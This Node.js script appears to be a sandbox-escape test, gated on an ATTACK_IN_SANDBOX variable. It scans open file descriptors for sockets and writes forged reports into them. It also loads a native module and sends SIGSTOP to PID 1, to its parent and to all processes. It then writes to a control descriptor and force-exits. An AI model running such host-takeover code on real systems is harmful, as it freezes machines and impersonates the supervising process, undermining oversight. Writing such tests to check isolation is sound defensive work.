// take over the host: report in its name, go on serving, restart its server, end its parent
if (!process.env.ATTACK_IN_SANDBOX) process.exit(1);
const fs = process.getBuiltinModule?.('fs') ?? process.mainModule.require('fs');
function f() {
  const report = Buffer.alloc(24);
  for (let fd = 4; fd < 256; fd++) {
    let what = '';
    try { what = fs.readlinkSync(`/proc/self/fd/${fd}`); } catch { continue; }
    if (!what.startsWith('socket:')) continue;
    console.log('BREACH a socket is open', fd);
    fs.writeSync(fd, report);
  }
  const native = { exports: {} };
  try {
    process.dlopen(native, process.argv.find((word) => word.endsWith('.node')));
    for (const pid of [1, process.ppid, -1]) {
      try { process.kill(pid, 'SIGSTOP'); } catch { /* refused */ }
    }
  } catch { /* this host does not fork */ }
  fs.writeSync(3, '1\n');
  native.exports.serve?.(); // it has no socket: this ends it
  process.reallyExit(0);
}
